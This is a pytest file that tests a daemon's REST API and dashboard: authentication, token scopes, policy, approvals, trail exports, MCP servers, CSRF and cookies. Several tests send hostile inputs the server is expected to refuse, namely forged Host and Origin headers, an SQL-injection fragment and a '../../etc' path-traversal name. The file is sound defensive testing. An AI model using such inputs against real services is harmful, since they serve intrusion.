"""The REST API against a real daemon: every endpoint's answer, and each refusal (401, 403, 400,
413, 421, foreign Origin), plus the dashboard's session, CSRF and security headers."""

from __future__ import annotations

import json
import re
import time
from typing import Any

import pytest

from actors.gate.policy import PolicyActor
from chalie.brain import api
from chalie.brain.openapi import document
from chalie.brain.operations import OPERATIONS
from chalie.calls.trail import CallRecord, Trail
from tests.core.brain.daemon import BrainDaemon, ok, refused
from tools.waiting import wait_until

pytestmark = pytest.mark.slow


# -- who gets in ------------------------------------------------------------------------
@pytest.mark.parametrize("o", OPERATIONS, ids=lambda o: o.name)
def test_every_endpoint_refuses_a_request_without_a_token(d: BrainDaemon, o: Any) -> None:
    path = o.path.replace("{name}", "x").replace("{request_id}", "r1")
    path = path.replace("{conversation_id}", "c1").replace("{id}", "1")
    with d.client(None) as c:
        refused(c.request(o.method, "/api/v1" + path), 401, "unauthorized")
    with d.client("chalie_not-a-token") as c:
        refused(c.request(o.method, "/api/v1" + path), 401, "unauthorized")


def test_a_gateway_token_is_not_the_owner(d: BrainDaemon) -> None:
    with d.client() as c:
        created = ok(
            c.post("/api/v1/tokens", json={"name": "gw", "scope": "gateway"}), api.CreatedToken
        )
    assert created.token.scope == "gateway"
    with d.client(created.secret) as c:
        refused(c.get("/api/v1/overview"), 403, "forbidden")
        refused(
            c.put(
                "/api/v1/policy",
                json={"channel": "chat", "permission": "clock", "decision": "allow"},
            ),
            403,
            "forbidden",
        )


def test_a_foreign_host_or_origin_is_refused(d: BrainDaemon) -> None:
    with d.client() as c:
        refused(c.get("/api/v1/overview", headers={"Host": "evil.example:80"}), 421, "invalid-host")
        refused(
            c.get("/brain/login", headers={"Host": f"attacker.test:{d.hostport.split(':')[1]}"}),
            421,
            "invalid-host",
        )
        refused(
            c.get("/api/v1/overview", headers={"Origin": "https://evil.example"}),
            403,
            "origin-refused",
        )
        own = c.get("/api/v1/overview", headers={"Origin": f"http://{d.hostport}"})
        assert own.status_code == 200


def test_bad_input_is_a_400_with_the_reason_and_changes_nothing(d: BrainDaemon) -> None:
    with d.client() as c:
        refused(c.put("/api/v1/policy", content=b"{not json"), 400, "malformed-request")
        refused(c.put("/api/v1/policy", json=[1, 2]), 400, "invalid-args")
        r = c.put(
            "/api/v1/policy", json={"channel": "chat", "permission": "clock", "decision": "maybe"}
        )
        refused(r, 400, "invalid-args")
        assert "decision" in r.json()["message"]
        refused(
            c.put(
                "/api/v1/policy",
                json={"channel": "moon", "permission": "clock", "decision": "allow"},
            ),
            400,
            "invalid-args",
        )
        refused(
            c.put(
                "/api/v1/policy",
                json={"channel": "chat", "permission": "Robert'); DROP", "decision": "allow"},
            ),
            400,
            "invalid-args",
        )
        refused(
            c.put(
                "/api/v1/policy",
                json={"channel": "chat", "permission": "clock", "decision": "allow", "extra": 1},
            ),
            400,
            "invalid-args",
        )
        refused(c.get("/api/v1/trail", params={"limit": "100000"}), 400, "invalid-args")
        refused(c.get("/api/v1/trail?tool=a&tool=b"), 400, "invalid-args")
        refused(c.post("/api/v1/policy/reset"), 400, "invalid-args")  # not "reset everything"
        refused(c.get("/api/v1/trail", params={"before": "zero"}), 400, "invalid-args")
        refused(c.post("/api/v1/tokens", json={"name": "../../etc"}), 400, "invalid-args")
        refused(c.post("/api/v1/mcp/import", json={"text": "x" * 70_000}), 400, "invalid-args")
        refused(
            c.post("/api/v1/tokens", content=b"{" + b" " * 300_000 + b"}"), 413, "oversized-request"
        )
        rows = ok(c.get("/api/v1/policy"), api.PolicyPage).rows
        assert not [r for r in rows if r.permission == "clock" and r.origin == "set"]


# -- the endpoints ----------------------------------------------------------------------
def test_openapi_is_derived_from_the_operation_table(d: BrainDaemon) -> None:
    with d.client() as c:
        doc = c.get("/api/v1/openapi.json").json()
    assert doc == json.loads(json.dumps(document()))
    listed = {(m.upper(), p) for p, ops in doc["paths"].items() for m in ops}
    assert listed == {(o.method, o.openapi_path) for o in OPERATIONS}
    assert "PolicySet" in doc["components"]["schemas"]
    with d.client(None) as c:
        assert c.get("/api/v1/openapi.json").status_code == 200  # the document is public


def test_overview_shows_the_tree_and_the_process(d: BrainDaemon) -> None:
    with d.client() as c:
        ov = ok(c.get("/api/v1/overview"), api.Overview)
    ids = {a.id for a in ov.actors}
    assert {"policy", "dispatcher", "chat", "mcp_server", "conversations"} <= ids
    assert all(a.alive for a in ov.actors)
    assert ov.memory_rss_bytes > 10_000_000 and ov.uptime > 0
    assert ov.mcp_server is not None and ov.mcp_server["url"] == d.mcp_url


def test_policy_set_filter_and_reset_reach_the_gate(d: BrainDaemon) -> None:
    policy = d.rt.child("policy", PolicyActor).within(10)
    with d.client() as c:
        row = ok(
            c.put(
                "/api/v1/policy",
                json={"channel": "subconscious", "permission": "calculator", "decision": "deny"},
            ),
            api.PolicyRowView,
        )
        assert row.decision == "deny"
        assert policy.call(PolicyActor.view).setting("subconscious", "calculator") == "deny"
        ok(
            c.put(
                "/api/v1/policy",
                json={"channel": "chat", "permission": "_mcp_fx_*", "decision": "allow"},
            ),
            api.PolicyRowView,
        )
        page = ok(c.get("/api/v1/policy", params={"q": "calc"}), api.PolicyPage)
        assert [(r.channel, r.permission, r.decision) for r in page.rows] == [
            ("subconscious", "calculator", "deny")
        ]
        assert "calculator" not in page.unconfigured
        page = ok(c.get("/api/v1/policy", params={"setting": "allow"}), api.PolicyPage)
        assert ("chat", "_mcp_fx_*") in {(r.channel, r.permission) for r in page.rows}
        removed = ok(c.post("/api/v1/policy/reset", json={"permission": "calculator"}), api.Removed)
        assert removed.removed == 1
        assert policy.call(PolicyActor.view).setting("subconscious", "calculator") is None
        assert (
            ok(
                c.post("/api/v1/policy/reset", json={"channel": "chat", "permission": "_mcp_fx_*"}),
                api.Removed,
            ).removed
            == 1
        )


def test_tokens_create_list_revoke(d: BrainDaemon) -> None:
    with d.client() as c:
        made = ok(
            c.post("/api/v1/tokens", json={"name": "agent-a", "scope": "agent"}), api.CreatedToken
        )
        assert made.secret.startswith("chalie_")
        for cfg in (made.configs.claude_desktop, made.configs.cursor):
            assert made.secret in cfg and d.mcp_url in cfg
        assert json.loads(made.configs.cursor)["mcpServers"]["chalie"]["url"] == d.mcp_url
        assert made.secret in made.configs.claude_code
        listed = ok(c.get("/api/v1/tokens"), list[api.TokenView])
        assert "agent-a" in {t.name for t in listed}
        assert made.secret not in c.get("/api/v1/tokens").text
        refused(c.post("/api/v1/tokens", json={"name": "agent-a"}), 409, "token-exists")
        gone = ok(c.delete("/api/v1/tokens/agent-a"), api.TokenView)
        assert gone.revoked is not None
        refused(c.delete("/api/v1/tokens/agent-a"), 404, "not-found")
    with d.client(made.secret) as c:
        refused(c.get("/api/v1/overview"), 401, "unauthorized")


def test_a_token_is_regenerated_in_one_step(d: BrainDaemon) -> None:
    """The seed's MCP tab: retrieve or regenerate (issue 34): a new secret, the old one
    refused at once, the same token (id and scope), in the REST API, the page and the CLI."""
    from chalie.gate.tokens import TokenStore

    def token_id() -> str:
        with TokenStore(d.home / "chalie.db") as store:
            return next(t.id for t in store.list() if t.name == "agent-r" and t.active)

    with d.client() as c:
        made = ok(c.post("/api/v1/tokens", json={"name": "agent-r"}), api.CreatedToken)
        first = token_id()
        again = ok(c.post("/api/v1/tokens/agent-r/regenerate"), api.CreatedToken)
        assert again.secret != made.secret and again.secret in again.configs.cursor
        assert again.token.scope == made.token.scope == "agent" and token_id() == first
        refused(c.post("/api/v1/tokens/nobody/regenerate"), 404, "not-found")
    with d.client(made.secret) as c:
        refused(c.get("/api/v1/overview"), 401, "unauthorized")
    with d.client(None) as c:
        assert _sign_in(d, c, d.token).status_code == 303
        token = _csrf(c.get("/brain/mcp_server").text)
        page = c.post(
            "/brain/act/token_regenerate", data={"path.name": "agent-r", "csrf": token}
        ).text
        assert "Token agent-r regenerated: the old secret no longer works" in page
        shown = re.search(r'id="secret" readonly value="([^"]+)"', page)
        assert shown is not None and shown.group(1) not in (made.secret, again.secret)
    from click.testing import CliRunner

    from chalie_app.cli import cli

    done = CliRunner().invoke(cli, ["--home", str(d.home), "token", "regenerate", "agent-r"])
    assert done.exit_code == 0 and done.stdout.strip().startswith("chalie_")
    assert shown.group(1) != done.stdout.strip()


def test_mcp_server_view(d: BrainDaemon) -> None:
    with d.client() as c:
        view = ok(c.get("/api/v1/mcp-server"), api.McpServerView)
    assert view.running and view.url == d.mcp_url and view.enabled
    assert view.limits["requests_per_minute"] >= 1


def test_approvals_pending_answer_and_unknown(d: BrainDaemon) -> None:
    with d.client() as c:
        assert ok(c.get("/api/v1/approvals"), list[api.Approval]) == []
        refused(c.post("/api/v1/approvals/nope/answer", json={"answer": "deny"}), 404, "not-found")
        refused(
            c.post("/api/v1/approvals/nope/answer", json={"answer": "yes please"}),
            400,
            "invalid-args",
        )
        assert isinstance(ok(c.get("/api/v1/approvals/history"), list[api.HistoryRow]), list)


def test_usage_per_tool_over_the_last_hour_and_day_from_the_trail(d: BrainDaemon) -> None:
    from chalie.wire.messages import ToolCall, TurnContext

    ctx = TurnContext(
        conversation_id="c-usage", turn_id="t-usage", channel="chat", scope="unrestricted"
    )
    for i in range(3):
        call = ToolCall(
            call_id=f"usage-{i}",
            tool="find_tools",
            arguments={"query": ["clock"], "act_summary": "finding"},
            context=ctx,
        )
        assert d.rt.dispatch(call).result(30).status == "success"
    with d.client() as c:
        hour = ok(c.get("/api/v1/usage"), api.UsageView)
        (found,) = [u for u in hour.tools if u.name == "find_tools"]
        assert found.calls >= 3 and found.p50_ms is not None and found.p95_ms is not None
        assert found.p50_ms <= found.p95_ms and 0 <= found.error_rate <= 1
        day = ok(c.get("/api/v1/usage?window=day"), api.UsageView)
        assert day.window == "day" and day.since < hour.since
        refused(c.get("/api/v1/usage?window=week"), 400, "invalid-args")
    with d.client(None) as c:
        assert _sign_in(d, c, d.token).status_code == 303
        page = c.get("/brain/trail?window=day").text
        usage = page.split('id="usage-h"', 1)[1].split("</section>", 1)[0]
        assert "Usage over the last day" in usage and ">find_tools</th>" in usage


def test_any_tool_is_called_from_a_form_made_from_its_schema_through_the_gate(
    d: BrainDaemon,
) -> None:
    """Issue 34 (what MCP Inspector and ContextForge offer): call any tool from the page,
    as the owner on chat, through the gate; the answer and the trail row are shown."""
    policy = d.rt.child("policy", PolicyActor).within(5)
    policy.call(PolicyActor.set, "chat", "calculator", "allow")
    with d.client() as c:
        tools = ok(c.get("/api/v1/tools"), list[api.ToolInfo])
        names = {t.name for t in tools}
        assert "calculator" in names and "find_tools" not in names  # internal: the model's
        done = ok(
            c.post("/api/v1/tools/calculator/call", json={"arguments": {"expression": "6*7"}}),
            api.ToolCallResult,
        )
        assert (
            done.state == "done"
            and done.status == "success"
            and '"result":"42"' in (done.envelope.replace(" ", ""))
        )
        assert done.trail is not None and done.trail.tool == "calculator"
        assert done.trail.channel == "chat" and done.trail.decision == "allow"
        refused(c.post("/api/v1/tools/find_tools/call", json={}), 404, "not-found")
        refused(c.post("/api/v1/tools/nope/call", json={}), 404, "not-found")
        # Asked by the gate: the call waits in Approvals, the page is told so.
        policy.call(PolicyActor.set, "chat", "calculator", "ask")
        started = time.monotonic()
        waiting = ok(
            c.post("/api/v1/tools/calculator/call", json={"arguments": {"expression": "1"}}),
            api.ToolCallResult,
        )
        assert waiting.state == "waiting" and time.monotonic() - started < 60
        (asked,) = [
            a
            for a in ok(c.get("/api/v1/approvals"), list[api.Approval])
            if a.conversation_id == waiting.conversation_id
        ]
        ok(
            c.post(f"/api/v1/approvals/{asked.request_id}/answer", json={"answer": "deny"}),
            api.Answered,
        )
    policy.call(PolicyActor.set, "chat", "calculator", "allow")
    with d.client(None) as c:
        assert _sign_in(d, c, d.token).status_code == 303
        form = c.get("/brain/tools?tool=calculator").text
        assert 'name="arguments.expression"' in form and "(required)" in form
        answer = c.post(
            "/brain/act/tool_call",
            data={
                "csrf": _csrf(form),
                "back": "tools?tool=calculator",
                "path.name": "calculator",
                "arguments.expression": "2+2",
            },
        )
        assert answer.status_code == 200, answer.text[:500]
        assert "Answer: success" in answer.text and "Trail row" in answer.text
        assert 'name="arguments.expression"' in answer.text  # the form is still there
    policy.call(PolicyActor.reset, channel="chat", permission="calculator")


def test_a_send_beyond_chalie_shows_its_reach_first_and_only_its_given_params(
    d: BrainDaemon,
) -> None:
    """Issue 34: the card showed all 25 email parameters, nulls included, and "Asked by:
    unknown" for a request the gate had written "the owner, on the chat channel"."""
    from chalie.wire.messages import ToolCall, TurnContext

    ctx = TurnContext(
        conversation_id="c-reach", turn_id="t-reach", channel="chat", scope="unrestricted"
    )
    given = {"action": "send", "to": ["ann@example.com"], "subject": "Dinner", "body": "8?"}
    call = ToolCall(
        call_id="call-reach", tool="email", arguments={**given, "act_summary": "x"}, context=ctx
    )
    outcome = d.rt.dispatch(call)
    policy = d.rt.child("policy", PolicyActor).within(5)
    (request,) = wait_until(
        lambda: [r for r in policy.call(PolicyActor.pending) if r.conversation_id == "c-reach"],
        what="the email.send request",
    )
    reach = "sends mail to ann@example.com; subject 'Dinner'; body '8?'"
    with d.client() as c:
        (mine,) = [
            a
            for a in ok(c.get("/api/v1/approvals"), list[api.Approval])
            if a.conversation_id == "c-reach"
        ]
        assert mine.reach == reach and mine.params == given
        assert mine.asked_by == request.asked_by != ""
    with d.client(None) as c:
        assert _sign_in(d, c, d.token).status_code == 303
        page = c.get("/brain/approvals").text
        card = page[page.index('id="req-' + mine.request_id) :]
        card = card[: card.index("</article>")]
        assert card.index("This reaches beyond Chalie:") < card.index("Asked by")
        assert "ann@example.com" in card and "null" not in card and "unknown" not in card
    with d.client() as c:
        path = f"/api/v1/approvals/{mine.request_id}/answer"
        ok(c.post(path, json={"answer": "deny"}), api.Answered)
    assert outcome.result(10).code == "permission-denied"
    # The answered list says who decided (it had no "decided by").
    with d.client() as c:
        history = ok(c.get("/api/v1/approvals/history"), list[api.HistoryRow])
        (row,) = [h for h in history if h.conversation_id == "c-reach"]
        assert (row.decision, row.decided_by) == ("deny", "first")
    with d.client(None) as c:
        assert _sign_in(d, c, d.token).status_code == 303
        answered = c.get("/brain/approvals").text.split('id="history-h"', 1)[1]
        assert '<th scope="col">Decided by</th>' in answered and "<td>first</td>" in answered


def test_the_trail_filters_by_principal_through_rest_and_export(d: BrainDaemon) -> None:
    book = Trail(d.rt.db_path)
    try:
        for i, who in enumerate(("local", "tok-a", "tok-b", "tok-a")):
            rec = book.record_for(
                call_id=f"pcall-{i}",
                turn_id="t1",
                conversation_id="c-principal",
                channel="chat",
                tool="clock",
                permission="clock",
                params="{}",
                act_summary=f"row {i}",
                principal=who,
            )
            book.finish(
                rec,
                status="success",
                code=None,
                decision="allow",
                decided_by="policy",
                started=False,
            )
    finally:
        book.close()
    with d.client() as c:
        every = ok(c.get("/api/v1/trail", params={"conversation": "c-principal"}), api.TrailPage)
        assert [r.principal for r in every.rows] == ["tok-a", "tok-b", "tok-a", "local"]
        mine = ok(
            c.get("/api/v1/trail", params={"conversation": "c-principal", "principal": "tok-a"}),
            api.TrailPage,
        )
        assert [r.call_id for r in mine.rows] == ["pcall-3", "pcall-1"]
        paged = ok(
            c.get(
                "/api/v1/trail",
                params={"conversation": "c-principal", "principal": "tok-a", "limit": 1},
            ),
            api.TrailPage,
        )
        assert [r.call_id for r in paged.rows] == ["pcall-3"] and paged.next_before is not None
        rest = ok(
            c.get(
                "/api/v1/trail",
                params={"principal": "tok-a", "limit": 1, "before": paged.next_before},
            ),
            api.TrailPage,
        )
        assert [r.call_id for r in rest.rows] == ["pcall-1"]
        nobody = ok(c.get("/api/v1/trail", params={"principal": "nobody"}), api.TrailPage)
        assert nobody.rows == []
        refused(c.get("/api/v1/trail", params={"principal": "x" * 500}), 400, "invalid-args")
        jsonl = c.get("/api/v1/trail/export", params={"principal": "tok-b", "format": "jsonl"})
        lines = [json.loads(x) for x in jsonl.text.splitlines()]
        assert [(x["call_id"], x["principal"]) for x in lines] == [("pcall-2", "tok-b")]
        csv_text = c.get(
            "/api/v1/trail/export", params={"principal": "tok-b", "format": "csv"}
        ).text
        head, *body = csv_text.strip().splitlines()
        assert "principal" in head.split(",") and len(body) == 1 and "tok-b" in body[0]
    with d.client(None) as c:
        assert _sign_in(d, c, d.token).status_code == 303
        shown = c.get("/brain/trail", params={"principal": "tok-b"})
        assert shown.status_code == 200, shown.text[:500]
        assert 'name="principal" value="tok-b"' in shown.text
        assert "row 2" in shown.text and "row 1" not in shown.text and "row 3" not in shown.text
        assert "principal=tok-b" in shown.text  # the export links keep the filter


def test_trail_keyset_pages_filters_and_exports(d: BrainDaemon) -> None:
    book = Trail(d.rt.db_path)
    try:
        for i in range(25):
            rec = CallRecord(
                id=book.reserve(),
                call_id=f"call-{i}",
                turn_id="t1",
                conversation_id="c-trail",
                channel="chat",
                tool="clock" if i % 2 else "calculator",
                permission=None,
                params=json.dumps({"i": i}),
                act_summary=f"row {i}",
                started_at=1000.0 + i,
            )
            book.start(rec)
            failed = i % 5 == 0
            book.finish(
                rec,
                status="error" if failed else "success",
                code="tool-failed" if failed else None,
                decision="allow",
                decided_by="policy",
            )
    finally:
        book.close()
    with d.client() as c:
        seen: list[int] = []
        before = None
        while True:
            params: dict[str, Any] = {"conversation": "c-trail", "limit": 10}
            if before is not None:
                params["before"] = before
            page = ok(c.get("/api/v1/trail", params=params), api.TrailPage)
            seen += [r.id for r in page.rows]
            if page.next_before is None:
                break
            before = page.next_before
        assert len(seen) == 25 and seen == sorted(seen, reverse=True)
        errs = ok(
            c.get("/api/v1/trail", params={"conversation": "c-trail", "status": "error"}),
            api.TrailPage,
        )
        assert len(errs.rows) == 5 and {r.code for r in errs.rows} == {"tool-failed"}
        timed = ok(
            c.get(
                "/api/v1/trail", params={"conversation": "c-trail", "since": 1010, "until": 1015}
            ),
            api.TrailPage,
        )
        assert sorted(r.started_at for r in timed.rows) == [1010.0 + i for i in range(5)]
        clocks = ok(
            c.get(
                "/api/v1/trail",
                params={"conversation": "c-trail", "tool": "clock", "code": "tool-failed"},
            ),
            api.TrailPage,
        )
        assert {r.tool for r in clocks.rows} == {"clock"} and len(clocks.rows) == 2
        jsonl = c.get("/api/v1/trail/export", params={"conversation": "c-trail", "format": "jsonl"})
        assert jsonl.headers["content-type"].startswith("application/x-ndjson")
        lines = [json.loads(x) for x in jsonl.text.splitlines()]
        assert len(lines) == 25 and lines[0]["act_summary"] == "row 24"
        csv_text = c.get(
            "/api/v1/trail/export", params={"conversation": "c-trail", "format": "csv"}
        ).text
        assert csv_text.splitlines()[0].startswith("id,call_id")
        assert len(csv_text.strip().splitlines()) == 26


# The trail row as the REST API and its CSV export show it, field by field and in order.
TRAIL_ROW_FIELDS = [
    "id",
    "call_id",
    "turn_id",
    "conversation_id",
    "channel",
    "tool",
    "permission",
    "decision",
    "decided_by",
    "params",
    "status",
    "code",
    "act_summary",
    "background",
    "started_at",
    "ended_at",
    "principal",
]


def clock_row(d: BrainDaemon, call_id: str, conversation: str, act_summary: str, **kw: str) -> None:
    """One finished clock call on the daemon's trail, allowed by the policy."""
    book = Trail(d.rt.db_path)
    try:
        rec = book.record_for(
            call_id=call_id,
            turn_id="t1",
            conversation_id=conversation,
            channel="chat",
            tool="clock",
            permission="clock",
            params='{"zone": "UTC"}',
            act_summary=act_summary,
            principal="local",
            **kw,
        )
        book.finish(
            rec, status="success", code=None, decision="allow", decided_by="policy", started=False
        )
    finally:
        book.close()


def test_the_trail_row_keeps_its_wire_shape(d: BrainDaemon) -> None:
    clock_row(
        d,
        "shape-1",
        "c-shape",
        "what time is it",
        healed="zone: utc -> UTC",
        parent_call_id="shape-0",
    )
    with d.client() as c:
        page = c.get("/api/v1/trail", params={"conversation": "c-shape"})
        assert page.status_code == 200, page.text
        body = page.json()
        assert list(body) == ["rows", "next_before"] and body["next_before"] is None
        (row,) = body["rows"]
        assert list(row) == TRAIL_ROW_FIELDS  # what the dispatcher keeps for itself is not shown
        assert row["call_id"] == "shape-1" and row["background"] is False
        assert row["params"] == '{"zone": "UTC"}' and row["principal"] == "local"
        assert row["status"] == "success" and isinstance(row["ended_at"], float)
        csv_text = c.get(
            "/api/v1/trail/export", params={"conversation": "c-shape", "format": "csv"}
        ).text
        head, line = csv_text.strip().splitlines()
        assert head.split(",") == TRAIL_ROW_FIELDS and "shape-1" in line
        jsonl = c.get("/api/v1/trail/export", params={"conversation": "c-shape", "format": "jsonl"})
        (stored,) = [json.loads(x) for x in jsonl.text.splitlines()]
        # The JSONL export is the whole stored row, the healed arguments and parent call included.
        assert set(stored) == {*TRAIL_ROW_FIELDS, "healed", "parent_call_id"}
        assert stored["healed"] == "zone: utc -> UTC" and stored["parent_call_id"] == "shape-0"
        assert {k: stored[k] for k in TRAIL_ROW_FIELDS} == row


def test_conversations_list_read_delete(d: BrainDaemon) -> None:
    with d.client() as c:
        refused(c.get("/api/v1/conversations/c-none"), 404, "unknown-conversation")
        refused(c.delete("/api/v1/conversations/c-none"), 404, "unknown-conversation")
        refused(c.get("/api/v1/conversations/bad id!"), 400, "invalid-args")
        assert isinstance(ok(c.get("/api/v1/conversations"), list[api.ConversationRow]), list)


def test_a_conversation_row_keeps_its_wire_shape(d: BrainDaemon) -> None:
    from chalie.conversation.store import ConversationStore
    from chalie.wire.principals import Principal

    store = ConversationStore(d.rt.db_path)
    try:
        agent = Principal(scope="agent", id="tok-shape", name="shape")
        store.create("c-shape-row", "chat", origin="rest-test", title="Shape", principal=agent)
    finally:
        store.close()
    with d.client() as c:
        listed = c.get("/api/v1/conversations", params={"limit": 500})
        assert listed.status_code == 200, listed.text
        (row,) = [r for r in listed.json() if r["id"] == "c-shape-row"]
    # Who it belongs to is not shown on the list.
    assert list(row) == [
        "id",
        "channel",
        "origin",
        "created",
        "updated",
        "title",
        "messages",
        "last_seq",
    ]
    assert (row["channel"], row["origin"], row["title"]) == ("chat", "rest-test", "Shape")
    assert (row["messages"], row["last_seq"]) == (0, 0) and row["created"] == row["updated"]


def test_discovery_try_and_examples(d: BrainDaemon) -> None:
    with d.client() as c:
        found = ok(
            c.post("/api/v1/discovery/try", json={"queries": ["clock", "multiply two numbers"]}),
            api.DiscoveryAnswer,
        )
        assert found.entries[0].rung == "exact" and found.entries[0].hits[0].name == "clock"
        vector = found.entries[1]
        assert vector.rung == "vector" and vector.hits[0].name == "calculator"
        assert vector.hits[0].distance is not None
        blank = ok(
            c.post("/api/v1/discovery/try", json={"queries": [" \n\u0007"]}), api.DiscoveryAnswer
        )
        assert [(e.rung, e.hits) for e in blank.entries] == [("none", [])]
        refused(c.post("/api/v1/discovery/try", json={"queries": []}), 400, "invalid-args")
        refused(c.post("/api/v1/discovery/try", json={"queries": ["x" * 201]}), 400, "invalid-args")
        refused(c.delete(f"/api/v1/discovery/examples/{2**70}"), 400, "invalid-args")
        assert ok(c.get("/api/v1/discovery/examples"), list[api.ExampleView]) == []
        refused(c.delete("/api/v1/discovery/examples/999"), 404, "not-found")


def test_remote_servers_add_tools_and_remove(d: BrainDaemon) -> None:
    from tools.fixture_mcp.rig import FixtureServer

    fx = FixtureServer()
    try:
        with d.client() as c:
            added = ok(
                c.post(
                    "/api/v1/mcp/servers", json={"name": "fx", "transport": "http", "url": fx.url}
                ),
                api.RemoteView,
            )
            assert added.name == "fx" and added.transport == "http"
            refused(
                c.post(
                    "/api/v1/mcp/servers", json={"name": "fx", "transport": "http", "url": fx.url}
                ),
                409,
                "mcp-admin",
            )
            wait_until(
                lambda: ok(c.get("/api/v1/mcp/servers"), list[api.RemoteView])[0].tools > 0,
                30,
                "fx's tools",
            )
            tools = ok(c.get("/api/v1/mcp/servers/fx/tools"), list[api.RemoteToolView])
            assert "echo" in {t.remote for t in tools} and all(t.server == "fx" for t in tools)
            report = ok(c.post("/api/v1/mcp/servers/fx/test"), api.RemoteDone)
            assert report.detail["ok"] is True
            assert (
                ok(c.post("/api/v1/mcp/servers/fx/disable"), api.RemoteDone).detail["enabled"]
                is False
            )
            assert (
                ok(c.post("/api/v1/mcp/servers/fx/enable"), api.RemoteDone).detail["enabled"]
                is True
            )
            refused(
                c.post("/api/v1/mcp/servers/fx/approve", json={"tool": "echo"}), 409, "mcp-admin"
            )
            refused(c.get("/api/v1/mcp/servers/nosuch/tools"), 404, "mcp-admin")
            # Issue 34: a remote server's notifications and log lines, in its log.
            from chalie.wire.messages import ToolCall, TurnContext

            wait_until(  # re-enabled just above: connected again first
                lambda: any(
                    r.name == "fx" and r.status == "online"
                    for r in ok(c.get("/api/v1/mcp/servers"), list[api.RemoteView])
                ),
                30,
                "fx online again",
            )

            d.rt.child("policy", PolicyActor).within(5).call(
                PolicyActor.set, "chat", "_mcp_fx_grow", "allow"
            )
            ctx = TurnContext(
                conversation_id="c-grow", turn_id="t-grow", channel="chat", scope="unrestricted"
            )
            grow = ToolCall(
                call_id="grow-1",
                tool="_mcp_fx_grow",
                arguments={"count": 1, "act_summary": "g"},
                context=ctx,
            )
            grown = d.rt.dispatch(grow).result(30)
            assert grown.status == "success", grown.envelope
            noted = "notification notifications/tools/list_changed"

            def logged() -> api.RemoteLog | None:
                found = ok(c.get("/api/v1/mcp/servers/fx/log?lines=50"), api.RemoteLog)
                return found if any(noted in line for line in found.lines) else None

            log = wait_until(logged, 30, "the list_changed notification in fx's log")
            assert log.name == "fx" and len(log.lines) <= 50
            refused(c.get("/api/v1/mcp/servers/nosuch/log"), 404, "mcp-admin")
            refused(c.get("/api/v1/mcp/servers/fx/log?lines=0"), 400, "invalid-args")
            imported = ok(
                c.post(
                    "/api/v1/mcp/import",
                    json={
                        "text": json.dumps({"mcpServers": {"fy": {"type": "http", "url": fx.url}}})
                    },
                ),
                api.Imported,
            )
            assert imported.added == ["fy"]
            refused(c.post("/api/v1/mcp/import", json={"text": "{not json"}), 409, "mcp-admin")
            ok(c.delete("/api/v1/mcp/servers/fy"), api.RemoteDone)
            ok(c.delete("/api/v1/mcp/servers/fx"), api.RemoteDone)
            assert ok(c.get("/api/v1/mcp/servers"), list[api.RemoteView]) == []
    finally:
        fx.kill()


# -- the dashboard's own checks ---------------------------------------------------------
def _sign_in(d: BrainDaemon, c: Any, secret: str) -> Any:
    form = c.get("/brain/login")
    nonce = re.search(r'name="nonce" value="([^"]+)"', form.text)
    assert nonce is not None
    return c.post("/brain/login", data={"nonce": nonce.group(1), "token": secret})


def _csrf(page: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found is not None
    return found.group(1)


def test_sign_in_gives_a_strict_cookie_and_csrf_guards_every_change(d: BrainDaemon) -> None:
    with d.client(None) as c:
        assert c.get("/brain/overview").headers["location"] == "/brain/login"
        signed = _sign_in(d, c, d.token)
        assert signed.status_code == 303, signed.text
        cookie = signed.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Max-Age=" in cookie
        assert "Secure" not in cookie  # plain HTTP on loopback; https sets it
        page = c.get("/brain/policy")
        assert page.status_code == 200
        csp = page.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp
        assert "<script>" not in page.text and "onclick" not in page.text
        token = _csrf(page.text)
        form = {"channel": "chat", "permission": "calculator", "decision": "deny", "back": "policy"}
        refused(c.post("/brain/act/policy_set", data=form), 403, "csrf")
        refused(c.post("/brain/act/policy_set", data={**form, "csrf": "x" * 43}), 403, "csrf")
        done = c.post("/brain/act/policy_set", data={**form, "csrf": token})
        assert done.status_code == 303
        assert (
            d.rt.child("policy", PolicyActor)
            .within(5)
            .call(PolicyActor.view)
            .setting("chat", "calculator")
            == "deny"
        )
        done = c.post(
            "/brain/act/policy_reset",
            data={"channel": "chat", "permission": "calculator"},
            headers={"X-CSRF-Token": token},
        )
        assert done.status_code == 303
        refused(
            c.post(
                "/brain/act/policy_set",
                data={**form, "csrf": token},
                headers={"Origin": "https://evil.example"},
            ),
            403,
            "origin-refused",
        )
        for slug in (
            "overview",
            "approvals",
            "policy",
            "mcp_server",
            "remote",
            "trail",
            "conversations",
            "accounts",
            "memory",
            "reminders",
            "discovery",
        ):
            shown = c.get(f"/brain/{slug}")
            assert shown.status_code == 200, (slug, shown.text[:500])
            assert d.token not in shown.text
        assert c.post("/brain/logout", data={"csrf": token}).status_code == 303
        assert c.get("/brain/policy").status_code == 303


def test_sign_in_refuses_a_bad_token_a_gateway_token_and_a_stale_form(d: BrainDaemon) -> None:
    with d.client() as api_client:
        gw = ok(
            api_client.post("/api/v1/tokens", json={"name": "gw2", "scope": "gateway"}),
            api.CreatedToken,
        )
    with d.client(None) as c:
        assert _sign_in(d, c, "chalie_wrong").status_code == 401
        assert _sign_in(d, c, gw.secret).status_code == 403
        refused(c.post("/brain/login", data={"nonce": "forged", "token": d.token}), 403, "csrf")


def test_a_session_ends_when_its_token_is_revoked(d: BrainDaemon) -> None:
    with d.client() as c:
        made = ok(
            c.post("/api/v1/tokens", json={"name": "person2", "scope": "owner"}), api.CreatedToken
        )
    with d.client(None) as browser:
        assert _sign_in(d, browser, made.secret).status_code == 303
        assert browser.get("/brain/overview").status_code == 200
        with d.client() as c:
            ok(c.delete("/api/v1/tokens/person2"), api.TokenView)
        assert browser.get("/brain/overview").status_code == 303


def test_a_one_time_link_opens_one_session(d: BrainDaemon) -> None:
    from chalie.process.control import ControlClient

    client = ControlClient(d.home)
    try:
        reply = client.call("brain.link", None, timeout=10)
    finally:
        client.close()
    assert reply.ok, reply
    url = reply.data["url"]
    assert url.startswith(d.base + "/brain/link?code=")
    path = url[len(d.base) :]
    with d.client(None) as c:
        first = c.get(path)  # a page that moves on from this origin (no cross-site redirect)
        assert first.status_code == 200 and "chalie_brain=" in first.headers["set-cookie"]
        assert 'content="0;url=/brain/overview"' in first.text
        assert c.get("/brain/overview").status_code == 200
    with d.client(None) as c:
        assert c.get(path).status_code == 401
